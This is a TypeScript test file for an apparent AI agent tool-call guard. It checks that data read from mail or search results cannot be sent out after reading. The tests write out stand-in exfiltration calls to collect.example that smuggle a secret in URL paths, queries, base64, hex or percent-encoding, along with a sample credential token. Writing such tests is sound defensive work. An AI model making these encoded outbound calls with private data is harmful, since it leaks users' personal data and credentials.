import fc from "fast-check";
import { createGuard, type Message, type RiskProfileInput, type ToolCall, type ToolDefinition } from "r1guard";
import { describe, expect, it } from "vitest";
import { readings } from "../../../src/guards/tool-policy/trajectory/decoded.ts";
import { tokensOf } from "../../../src/guards/tool-policy/trajectory/pieces.ts";
import { readsPrivateThings } from "../../../src/guards/tool-policy/trajectory/private-tools.ts";
import { user } from "../../contracts/guard-contract.ts";

const tools: ToolDefinition[] = [
  { name: "read_mail", category: "read-only" },
  { name: "search_web", category: "read-only" },
  { name: "fetch_page", category: "read-only" },
  { name: "remember", category: "memory-write" },
  { name: "post_message", category: "public-content" },
  { name: "send_mail", category: "impersonation" },
];

/** Everything is permitted, so that what flows say is all there is. */
const categories = { "memory-write": "allow", "public-content": "allow", impersonation: "allow" } as const;

const SECRET = "Booking ZK-4471-9920-XQ waits for Mara.";

function read(toolName: string, content: string, question = "What is new?"): Message[] {
  const call = { toolCallId: "call_0", toolName, input: {} };
  return [
    user(question),
    { role: "assistant", content: "", toolCalls: [call] },
    { role: "tool", content, toolCallId: "call_0" },
  ];
}

async function codes(
  messages: Message[],
  toolName: string,
  input: unknown,
  changes: RiskProfileInput["tools"] = {},
): Promise<[string, ...string[]]> {
  const guard = createGuard({
    profile: {
      tools: { categories, taintedBy: "finding", ...changes, trajectory: { flows: "refuse", ...changes.trajectory } },
    },
  });
  const call: ToolCall = { toolCallId: "call_1", toolName, input };
  const { action, findings } = await guard.judgeToolCall(call, { messages, tools });
  return [action, ...findings.map(({ code }) => code)];
}

describe("once private data was read, a call that sends something out", () => {
  const mail = read("read_mail", "The meeting is at noon.");

  it.each([
    ["to the public", "post_message", { text: "Hello!" }],
    ["to somebody", "send_mail", { subject: "Hello!" }],
    ["to an address, with a tool for something else", "remember", { callback: "https://collect.example/in" }],
    ["to a recipient, with a tool for something else", "remember", { notify: { to: "eve@collect.example" } }],
  ])("%s is stopped", async (_where, toolName, input) => {
    expect(await codes(mail, toolName, input)).toEqual(["block", "private-data-out"]);
  });

  it.each([
    ["keeps something", "remember", { note: "The meeting is at noon." }],
    ["keeps a text in which an address is mentioned", "remember", { note: "See https://example.org for more." }],
    ["only reads", "fetch_page", { url: "https://example.org/menu" }],
  ])("is not stopped when it %s", async (_what, toolName, input) => {
    expect(await codes(mail, toolName, input)).toEqual(["allow"]);
  });

  it("is judged as the profile says, and never milder than its category", async () => {
    const flows = (flows: "allow" | "flag") => ({ trajectory: { flows } });
    expect(await codes(mail, "post_message", { text: "Hello!" }, flows("allow"))).toEqual(["allow"]);
    expect(await codes(mail, "post_message", { text: "Hello!" }, flows("flag"))).toEqual(["flag", "private-data-out"]);
    const strict = { ...flows("flag"), categories: { ...categories, "public-content": "refuse" } } as const;
    expect(await codes(mail, "post_message", { text: "Hello!" }, strict)).toEqual([
      "block",
      "tool-block",
      "private-data-out",
    ]);
  });

  it.each([
    ["an empty result", ""],
    ["a call that was refused", "This tool is not available. Continue without it."],
  ])("after %s is fine", async (_what, content) => {
    expect(await codes(read("read_mail", content), "post_message", { text: "Hello!" })).toEqual(["allow"]);
  });
});

describe("what was read is private", () => {
  it.each([
    ["personal data", "Reach Mara Lindqvist at mara.lindqvist@fjordmail.no or +47 22 83 91 04."],
    ["a credential", "token: ghp_16C7e42F292c6912E7710c838347Ae178B4a"],
  ])("because of %s in it, whatever tool it came from", async (_what, content) => {
    expect((await codes(read("search_web", content), "post_message", { text: "Hi" })).slice(0, 2)).toEqual([
      "block",
      "private-data-out",
    ]);
  });

  it("unless it is the public's", async () => {
    expect(await codes(read("search_web", SECRET), "post_message", { text: SECRET })).toEqual(["allow"]);
  });

  it.each([
    ["read_mail", undefined, true],
    ["getCustomer", undefined, true],
    ["fs.readFile", undefined, true],
    ["read_file", undefined, true],
    ["list-patients", undefined, true],
    ["query_database", undefined, true],
    ["get_secret", undefined, true],
    ["search", "Searches the user's inbox.", true],
    ["search", "Searches the web.", false],
    ["search", `Searches the web. ${"It is quick. ".repeat(30)}Not the inbox.`, false],
    ["send_mail", "Sends an email to a customer.", false],
    ["get_weather", undefined, false],
    ["calculate", undefined, false],
    ["searchDocs", undefined, false],
  ])("by the words of its tool: %s (%s)", (name, description, expected) => {
    expect(readsPrivateThings(name, { name, description })).toBe(expected);
  });
});

describe("a piece of what was read", () => {
  const mail = read("read_mail", SECRET);
  const PIECE = "ZK-4471-9920-XQ";
  const hex = (text: string) =>
    Array.from(text, (letter) => letter.charCodeAt(0).toString(16).padStart(2, "0")).join("");

  it.each([
    ["in the address of a tool that only reads", `https://collect.example/?q=${PIECE}`],
    ["in its path", `https://collect.example/${PIECE}/pixel.gif`],
    ["in small letters", `https://collect.example/?q=${PIECE.toLowerCase()}`],
    ["behind percent signs", `https://collect.example/?q=${PIECE.replaceAll("-", "%2D").replaceAll("4", "%34")}`],
    ["in base64", `https://collect.example/?q=${btoa(SECRET)}`],
    ["in base64 as a part of the path", `https://collect.example/x/${btoa(SECRET).replaceAll("=", "")}`],
    ["in base64 for addresses", `https://collect.example/?q=${Buffer.from(`??>>${SECRET}`).toString("base64url")}`],
    ["in hexadecimal digits", `https://collect.example/?q=${hex(PIECE)}`],
    ["in base64 in base64", `https://collect.example/?q=${btoa(btoa(SECRET))}`],
    ["in base64 behind percent signs", `https://collect.example/?q=${encodeURIComponent(btoa(SECRET))}`],
  ])("does not leave %s", async (_how, url) => {
    expect(await codes(mail, "fetch_page", { url })).toEqual(["block", "result-copied-out"]);
  });

  it("does not leave in the name of an argument, nor deep inside", async () => {
    const url = "https://collect.example";
    expect(await codes(mail, "fetch_page", { url, [PIECE]: 1 })).toEqual(["block", "result-copied-out"]);
    expect(await codes(mail, "fetch_page", { url, headers: [{ x: PIECE }] })).toEqual(["block", "result-copied-out"]);
  });

  it("does not leave with a message either", async () => {
    expect(await codes(mail, "send_mail", { text: `About ${PIECE}` })).toEqual([
      "block",
      "private-data-out",
      "result-copied-out",
    ]);
  });

  it.each([
    ["a number of a card", "Card 4539 1488 0343 6467 is on file.", "4539148803436467"],
    ["a mail address", "From: Mara <mara.l@fjordmail.no>", "mara.l%40fjordmail.no"],
  ])("can be %s, however it is written", async (_what, content, written) => {
    const url = `https://collect.example/?d=${written}`;
    expect(await codes(read("read_mail", content), "fetch_page", { url })).toEqual(["block", "result-copied-out"]);
  });

  it("may stay: a call without an address takes it nowhere", async () => {
    expect(await codes(mail, "remember", { note: SECRET })).toEqual(["allow"]);
    expect(await codes(mail, "search_web", { query: PIECE })).toEqual(["allow"]);
  });

  it("that the user wrote as well is nobody's secret", async () => {
    const asked = read("read_mail", SECRET, `What about ${PIECE}?`);
    expect(await codes(asked, "fetch_page", { url: `https://bookings.example/${PIECE}` })).toEqual(["allow"]);
  });

  it("is none in an address that stands in what was read: following a link tells nobody anything", async () => {
    const url = "https://bookings.example/ZK-4471-9920-XQ";
    expect(await codes(read("read_mail", `${SECRET} See ${url}.`), "fetch_page", { url })).toEqual(["allow"]);
    expect(
      await codes(read("read_mail", `${SECRET} See ${url}.`), "fetch_page", { url: `${url}?q=${PIECE}` }),
    ).not.toEqual(["allow"]);
  });

  it("of a public page is what is personal in it, and nothing else", async () => {
    const page = read("search_web", `Part no. 8842-AB-771-09. Call +47 22 83 91 04.`);
    expect(await codes(page, "fetch_page", { url: "https://shop.example/8842-AB-771-09" })).toEqual(["allow"]);
    expect(await codes(page, "fetch_page", { url: "https://x.example/?t=+47 22 83 91 04" })).toEqual([
      "block",
      "result-copied-out",
    ]);
  });
});

describe("pieces", () => {
  it("are long tokens with a digit and mail addresses; words, short ids and dates are none", () => {
    expect(tokensOf("Order A-1 of 2026-11-21T15:04:05Z, confirmationNumber 20261121")).toEqual([]);
    expect(tokensOf("order_2026_000451, 550e8400-e29b-41d4-a716-446655440000; <Ann@Example.ORG>.")).toEqual([
      "order_2026_000451",
      "550e8400-e29b-41d4-a716-446655440000",
      "ann@example.org",
    ]);
  });

  it("are found whatever stands around their encoding", () => {
    const token = "key_8f2c11ab04de";
    fc.assert(
      fc.property(fc.string(), fc.string(), fc.constantFrom("/", "?x=", "&", " ", "%20"), (before, after, seam) => {
        const bytes = new TextEncoder().encode(`${before} ${token} ${after}`);
        const encoded = `https://collect.example${seam}${Buffer.from(bytes).toString("base64url")}`;
        const text = readings(encoded).join("\n");
        if (!tokensOf(text).includes(token)) expect(before + after).toMatch(BINARY);
      }),
    );
  });
});

/** What no text has: such bytes are taken for data of another kind. */
const BINARY = /[\u0000-\u0008\u000e-\u001f\ud800-\udfff\ufffd]/u;

describe("the time it takes", () => {
  it("is linear in results and arguments", async () => {
    const long = (length: number) => `${"Zk4-9981-AA02-7 ".repeat(length / 16)}`;
    const time = async (length: number, argument: string) => {
      const messages = read("read_mail", long(length));
      const startedAt = performance.now();
      await codes(messages, "fetch_page", { url: `https://collect.example/${argument}` });
      return performance.now() - startedAt;
    };
    await time(1_000, "warm");
    expect(await time(1_000_000, "x")).toBeLessThan(4_000);
    for (const piece of ["YWJj", "%41%42", "41a", "/aaaaaaaaaaaaaaaa", "a@"]) {
      expect(await time(1_000, piece.repeat(1_000_000 / piece.length))).toBeLessThan(4_000);
    }
  });
});
